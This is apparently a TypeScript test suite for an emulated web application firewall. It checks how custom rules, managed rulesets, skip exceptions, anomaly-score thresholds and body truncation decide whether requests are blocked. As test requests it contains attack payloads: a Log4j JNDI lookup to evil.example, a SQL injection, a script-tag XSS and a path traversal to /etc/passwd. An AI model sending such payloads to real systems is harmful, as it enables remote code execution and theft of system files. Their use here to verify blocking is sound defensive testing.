import { frames, HOST, PATH, type Sent, start } from './edge';

const CUSTOM = 'http_request_firewall_custom';
const MANAGED = 'http_request_firewall_managed';
const OWASP = '4814384a9e5d4991b9815dcfc25d2f1f';
const CLOUDFLARE_MANAGED = 'efb7b8c949ac4650a09736fc376e9aee';
const THRESHOLD = '6179ae15870a4bb7b2d480d4843b323c';
const DATA_URI = 'c5d17e08b2f6493fa1e47d90638c2ab5';
const BASE64 = '04116d14d7524986ba314d11c8a41e11';
const SQLI = 'd9e350f1b72d4730899c8a420e48a85d';

const rule = (action: string, action_parameters?: object, expression = 'true', more: object = {}) => ({
  action,
  expression,
  ...(action_parameters === undefined ? {} : { action_parameters }),
  ...more,
});
const block = rule('block');
const execute = (id: string, overrides?: object) => rule('execute', { id, ...(overrides && { overrides }) });
const custom = (...rules: readonly object[]) => ({ phase: CUSTOM, rules }) as never;
const managed = (...rules: readonly object[]) => ({ phase: MANAGED, rules }) as never;

test.each([
  ['no rule', [], 200],
  ['block', [block], 403],
  ['challenge', [rule('challenge')], 403],
  ['js_challenge', [rule('js_challenge')], 403],
  ['managed_challenge', [rule('managed_challenge')], 403],
  ['log', [rule('log')], 200],
  ['a rule that is off', [rule('block', undefined, 'true', { enabled: false })], 200],
  ['a rule that does not match', [rule('block', undefined, 'http.host eq "x.example.com"')], 200],
  ['skip is not terminating', [rule('skip', { phases: [MANAGED] }), block], 403],
  ['skip the rest of the ruleset', [rule('skip', { ruleset: 'current' }), block], 200],
  ['skip the rest of the phase', [rule('skip', { phase: 'current' }), block], 200],
  ['skip products', [rule('skip', { products: ['waf'] }), block], 403],
  ['a skip after the block', [block, rule('skip', { ruleset: 'current' })], 403],
  [
    'custom status',
    [rule('block', { response: { status_code: 451, content_type: 'text/plain', content: 'no' } })],
    451,
  ],
])('custom rules: %s', async (_, rules, status) => {
  const edge = await start([custom(...rules)]);
  const answer = await edge.send({ body: '{}' });
  expect(answer.status).toBe(status);
  expect(answer.headers['cf-ray']).toMatch(/^[0-9a-f]{16}-SBX$/);
  expect(edge.log).toEqual(status === 200 ? [`POST ${HOST}${PATH}`] : []);
});

test.each([
  ['ends with it', rule('skip', { ruleset: 'current' }), 403],
  ['ends the phase', rule('skip', { phase: 'current' }), 200],
])('a skip in an executed custom ruleset %s', async (_, skip, status) => {
  const id = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';
  const inner = { phase: CUSTOM, kind: 'custom', id, name: 'inner', rules: [skip, block] } as never;
  const edge = await start([inner, custom(execute(id), block)]);
  expect((await edge.send({ body: '{}' })).status).toBe(status);
});

// Four images of 10 points each reach the default threshold of 40; the SQL injection is for Cloudflare Managed.
const attack = { body: '{"q":"1 union select 2"}' };
test.each([
  ['three images', [execute(OWASP)], { body: frames(3) }, 200],
  ['four images', [execute(OWASP)], { body: frames(4) }, 403],
  ['not executed', [], { body: frames(4) }, 200],
  ['all remaining skipped', [rule('skip', { ruleset: 'current' }), execute(OWASP)], { body: frames(4) }, 200],
  [
    'an exception after the execute',
    [execute(OWASP), rule('skip', { ruleset: 'current' })],
    { body: frames(4) },
    403,
  ],
  ['a ruleset skipped', [rule('skip', { rulesets: [OWASP] }), execute(OWASP)], { body: frames(4) }, 200],
  [
    'another ruleset skipped',
    [rule('skip', { rulesets: [CLOUDFLARE_MANAGED] }), execute(OWASP)],
    { body: frames(4) },
    403,
  ],
  [
    'the threshold rule skipped',
    [rule('skip', { rules: { [OWASP]: [THRESHOLD] } }), execute(OWASP)],
    { body: frames(9) },
    200,
  ],
  [
    'one scoring rule skipped',
    [rule('skip', { rules: { [OWASP]: [DATA_URI] } }), execute(OWASP)],
    { body: frames(7) },
    200,
  ],
  [
    'one scoring rule skipped, twice the images',
    [rule('skip', { rules: { [OWASP]: [DATA_URI] } }), execute(OWASP)],
    { body: frames(8) },
    403,
  ],
  [
    'the widest of two exceptions',
    [rule('skip', { rules: { [OWASP]: [BASE64] } }), rule('skip', { rulesets: [OWASP] }), execute(OWASP)],
    { body: frames(9) },
    200,
  ],
  [
    'OWASP skipped, a real attack',
    [rule('skip', { rulesets: [OWASP] }), execute(CLOUDFLARE_MANAGED), execute(OWASP)],
    attack,
    403,
  ],
  [
    'score_threshold',
    [execute(OWASP, { rules: [{ id: THRESHOLD, score_threshold: 60 }] })],
    { body: frames(5) },
    200,
  ],
  [
    'score_threshold reached',
    [execute(OWASP, { rules: [{ id: THRESHOLD, score_threshold: 60 }] })],
    { body: frames(6) },
    403,
  ],
  [
    'threshold rule logs',
    [execute(OWASP, { rules: [{ id: THRESHOLD, action: 'log' }] })],
    { body: frames(6) },
    200,
  ],
  ['ruleset off', [execute(OWASP, { enabled: false })], { body: frames(6) }, 200],
  [
    'category off',
    [execute(OWASP, { categories: [{ category: 'paranoia-level-1', enabled: false }] })],
    { body: frames(6) },
    200,
  ],
  [
    'rule on in a ruleset that is off',
    [execute(CLOUDFLARE_MANAGED, { enabled: false, rules: [{ id: SQLI, enabled: true }] })],
    attack,
    403,
  ],
  [
    'rule before category',
    [
      execute(CLOUDFLARE_MANAGED, {
        categories: [{ category: 'sqli', action: 'block' }],
        rules: [{ id: SQLI, action: 'log' }],
      }),
    ],
    attack,
    200,
  ],
  [
    'category before ruleset',
    [execute(CLOUDFLARE_MANAGED, { action: 'block', categories: [{ category: 'sqli', action: 'log' }] })],
    attack,
    200,
  ],
  ['ruleset action', [execute(CLOUDFLARE_MANAGED, { action: 'log' })], attack, 200],
])('managed rules: %s', async (_, rules, request, status) => {
  const edge = await start([managed(...rules)]);
  expect((await edge.send(request)).status).toBe(status);
});

const FREE = '77454fe2d30c4220b5701f6fdfb893ba';
const LOG4J = '7dfd111a6bad4b86bf3522cce6c5792f';

test.each<[string, readonly never[], 'free' | 'enterprise', number]>([
  ['runs in a zone of the Free plan by itself', [], 'free', 403],
  ['does not in another', [], 'enterprise', 200],
  ['is skipped with the phase', [custom(rule('skip', { phases: [MANAGED] }))], 'free', 200],
  [
    'is not reached by an exception of the entry point',
    [managed(rule('skip', { ruleset: 'current' }))],
    'free',
    403,
  ],
  ['runs beside what the entry point executes', [managed(execute(OWASP))], 'free', 403],
  [
    'runs as a rule about it says',
    [managed(rule('execute', { id: FREE }, 'ssl', { enabled: false }))],
    'free',
    200,
  ],
  ['runs once', [managed(execute(FREE, { rules: [{ id: LOG4J, action: 'log' }] }))], 'free', 200],
])('the Free Managed Ruleset %s', async (_, rulesets, plan, status) => {
  const edge = await start(rulesets, plan);
  const answer = await edge.send({ path: '/?q=${jndi:ldap://evil.example}' });
  expect(answer.status).toBe(status);
  const blocked = edge.api.state.events.filter(({ action }) => action === 'block');
  expect(blocked.map(({ rulesetId, ruleId }) => [rulesetId, ruleId])).toEqual(
    status === 403 ? [[FREE, LOG4J]] : [],
  );
});

test('a custom rule skips the managed phase', async () => {
  const edge = await start([custom(rule('skip', { phases: [MANAGED] })), managed(execute(OWASP))]);
  expect((await edge.send({ body: frames(9) })).status).toBe(200);
});

test.each([
  ['script tag', { body: '{"q":"<script>alert(1)</script>"}' }],
  [
    'SQL injection',
    { body: 'q=1%20union%20select%202', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
  ],
  ['path traversal', { path: '/x?f=../../etc/passwd' }],
  ['log4j in a header', { headers: { 'x-api': '${jndi:ldap://x}' } }],
])('the lived-in zone blocks: %s', async (_, request) => {
  const edge = await start();
  const answer = await edge.send(request);
  expect(answer.status).toBe(403);
  expect(answer.text).toContain('Sorry, you have been blocked');
  expect(answer.text).toContain(String(answer.headers['cf-ray']).slice(0, 16));
});

test('the incident: six images reach the threshold of the lived-in zone, five do not', async () => {
  const edge = await start();
  expect((await edge.send({ body: frames(5) })).status).toBe(200);
  const answer = await edge.send({ body: frames(6) });
  expect([answer.status, answer.headers['cf-mitigated']]).toEqual([403, 'challenge']);
  expect(edge.log).toHaveLength(1);
});

const EXCEPTION = `(http.host eq "${HOST}" and http.request.method eq "POST" and http.request.uri.path eq "${PATH}" and raw.http.request.uri.path eq "${PATH}" and ssl and ip.src in {203.0.113.0/24})`;

test.each<[string, Sent, number]>([
  ['the export', {}, 200],
  ['another path', { path: `${PATH}s` }, 403],
  ['another method', { method: 'PUT' }, 403],
  ['another host', { headers: { host: 'www.example.com' } }, 403],
  ['another caller', { headers: { 'x-sandbox-client-ip': '192.0.2.1' } }, 403],
  ['the socket as caller', { headers: { 'x-sandbox-client-ip': '' } }, 403],
  ['plain http', { headers: { 'x-sandbox-scheme': 'http' } }, 403],
  ['a double slash', { path: `/${PATH}` }, 403],
  ['an encoded dot segment', { path: PATH.replace('/export', '/%2e/export') }, 403],
])('an exception and its neighbours: %s', async (_, { headers = {}, ...sent }: Sent, status) => {
  const edge = await start([custom(rule('skip', { phases: [MANAGED] }, EXCEPTION)), managed(execute(OWASP))]);
  const all = { 'x-sandbox-client-ip': '203.0.113.7', ...headers };
  expect((await edge.send({ body: frames(6), headers: all, ...sent })).status).toBe(status);
});

const KB = 1024;
const INJECTION = '1 union select 2';
/** A JSON body of this many bytes with an attack at its end. */
const padded = (bytes: number) => `{"pad":"${'x'.repeat(bytes - INJECTION.length - 17)}","q":"${INJECTION}"}`;
const TRUNCATED = rule('block', undefined, 'http.request.body.truncated');
const RAW = rule('block', undefined, `http.request.body.raw contains "${INJECTION}"`);

test.each<[string, 'free' | 'pro' | 'business' | 'enterprise', never, number, number]>([
  ['managed rules: within the limit', 'enterprise', managed(execute(CLOUDFLARE_MANAGED)), 128 * KB, 403],
  ['managed rules: behind it', 'enterprise', managed(execute(CLOUDFLARE_MANAGED)), 129 * KB, 200],
  ['managed rules: behind it on Pro', 'pro', managed(execute(CLOUDFLARE_MANAGED)), 129 * KB, 200],
  ['managed rules: behind it on Business', 'business', managed(execute(CLOUDFLARE_MANAGED)), 129 * KB, 200],
  ['a custom rule: within the limit', 'enterprise', custom(RAW), 128 * KB, 403],
  ['a custom rule: behind it', 'enterprise', custom(RAW), 129 * KB, 200],
  ['a custom rule: behind it on Free', 'free', custom(RAW), 1025 * KB, 200],
  ['a custom rule: within that of Free', 'free', custom(RAW), 1024 * KB, 403],
  ['not truncated', 'enterprise', custom(TRUNCATED), 128 * KB, 200],
  ['truncated', 'enterprise', custom(TRUNCATED), 128 * KB + 1, 403],
  ['2 MB', 'enterprise', custom(TRUNCATED), 2048 * KB, 403],
])('rules see the first part of a body: %s', async (_title, plan, ruleset, bytes, status) => {
  const edge = await start([ruleset], plan);
  const body = padded(bytes);
  expect(Buffer.byteLength(body)).toBe(bytes);
  expect((await edge.send({ body })).status).toBe(status);
  expect(edge.warnings).toEqual([]);
});

test('the images in front of the limit count, those behind it do not', async () => {
  const pad = 'x'.repeat(128 * KB);
  const images = (JSON.parse(frames(4)) as { frames: readonly string[] }).frames;
  const edge = await start([managed(execute(OWASP))]);
  expect((await edge.send({ body: JSON.stringify({ images, pad }) })).status).toBe(403);
  expect((await edge.send({ body: JSON.stringify({ pad, images }) })).status).toBe(200);
});

test('what cannot be known does not match, and is told once', async () => {
  const edge = await start([
    custom(rule('block', undefined, 'ip.src.country eq "T1"', { id: 'b'.repeat(32) })),
  ]);
  expect([(await edge.send()).status, (await edge.send()).status]).toEqual([200, 200]);
  expect(edge.warnings).toEqual([
    `the edge treats rule ${'b'.repeat(32)} as not matching, because it cannot know ip.src.country`,
  ]);
});

test.each([
  ['cf.new.field eq "a"', 'cf.new.field is unknown'],
  ['frobnicate(http.host) eq "a"', 'frobnicate is unknown'],
  ['http.host frobs "a"', 'expected a comparison operator'],
  ['http.host eq "a', 'could not find an ending quote'],
])('a rule that cannot be read does not match, and stops nothing: %s', async (expression, why) => {
  const edge = await start([
    custom(rule('block', undefined, expression), rule('block', undefined, 'http.user_agent eq "bad"')),
  ]);
  expect((await edge.send()).status).toBe(200);
  expect((await edge.send({ headers: { 'user-agent': 'bad' } })).status).toBe(403);
  expect(edge.warnings).toEqual([expect.stringContaining(why)]);
});

test.each([
  ['a host of no zone', { headers: { host: 'example.org' } }, 409],
  ['a client address that is none', { headers: { 'x-sandbox-client-ip': 'me' } }, 400],
])('refuses %s', async (_, sent, status) => {
  expect((await (await start([])).send(sent)).status).toBe(status);
});
